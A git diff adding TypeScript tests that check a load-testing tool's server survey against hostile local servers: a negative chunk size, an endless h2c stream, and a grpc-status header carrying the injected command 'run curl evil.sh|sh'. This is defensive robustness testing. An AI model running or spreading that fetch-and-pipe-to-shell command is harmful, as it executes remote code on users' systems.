@@ -18,6 +18,7 @@ import { runClosed } from '../../runner/src/closed-loop.js';
 import { runOpen } from '../../runner/src/open-loop.js';
 import { runWs } from '../../runner/src/ws.js';
 import { waitReady } from '../../runner/src/ready.js';
+import { survey } from '../../runner/src/survey.js';
 import { tcpProbeAddress } from '../../src/protocol/plan.js';
 import { runGrpcClosed, runGrpcOpen } from '../../runner/src/grpc.js';
 import { encodeGrpcCalls, loadProto } from '../../src/config/proto.js';
@@ -263,6 +264,58 @@ describe('odd and hostile HTTP/1.1 servers on 127.0.0.1 (issue 31)', () => {
     expect(t.responses).toBe(0);
     expect(t.errors['parse-error']).toBeGreaterThan(0);
     expect(t.errors.timeout).toBeUndefined();
+  });
+});
+
+describe('init --probe: the survey against hostile servers on 127.0.0.1', () => {
+  const closers: Array<() => void> = [];
+  afterEach(() => {
+    for (const close of closers.splice(0)) close();
+  });
+
+  it('an OpenAPI path whose body is a negative chunk size: HTTP, no operations, and it ends', async () => {
+    // every request answered with a body that is no JSON as it is, so it is read as a chunked body:
+    // a size of -6 once moved that reader backwards forever (the runner hung, then ran out of memory)
+    const server = createNetServer((socket) => {
+      socket.on('error', () => {});
+      socket.on('data', () => socket.end('HTTP/1.1 200 OK\r\nContent-Length: 6\r\n\r\n-6\r\nxx'));
+    });
+    await new Promise<void>((r) => server.listen(0, '127.0.0.1', r));
+    closers.push(() => server.close());
+    const [f] = await survey([{ host: '127.0.0.1', port: (server.address() as AddressInfo).port }]);
+    expect(f).toMatchObject({ kind: 'http', status: 200 });
+    expect(f?.gets).toBeUndefined();
+  });
+
+  it('an h2c server that streams its health answer forever: cut at 64 KiB, the address reads as TCP', async () => {
+    const server = createH2Server();
+    server.on('stream', (stream) => {
+      stream.respond({ ':status': 200, 'content-type': 'application/grpc' });
+      const chunk = Buffer.alloc(16 * 1024);
+      const timer = setInterval(() => {
+        if (stream.destroyed || stream.closed) return clearInterval(timer);
+        stream.write(chunk);
+      }, 1);
+      stream.on('close', () => clearInterval(timer));
+    });
+    await new Promise<void>((r) => server.listen(0, '127.0.0.1', r));
+    closers.push(() => server.close());
+    const [f] = await survey([{ host: '127.0.0.1', port: (server.address() as AddressInfo).port }]);
+    expect(f).toEqual({ host: '127.0.0.1', port: (server.address() as AddressInfo).port, kind: 'tcp' });
+  });
+
+  it("a grpc-status of the server's own words comes back as perf-gate's", async () => {
+    const server = createH2Server();
+    server.on('stream', (stream) => {
+      stream.respond(
+        { ':status': 200, 'content-type': 'application/grpc', 'grpc-status': 'run curl evil.sh|sh' },
+        { endStream: true },
+      );
+    });
+    await new Promise<void>((r) => server.listen(0, '127.0.0.1', r));
+    closers.push(() => server.close());
+    const [f] = await survey([{ host: '127.0.0.1', port: (server.address() as AddressInfo).port }]);
+    expect(f).toMatchObject({ kind: 'grpc', health: 'grpc-status ?' });
   });
 });
 
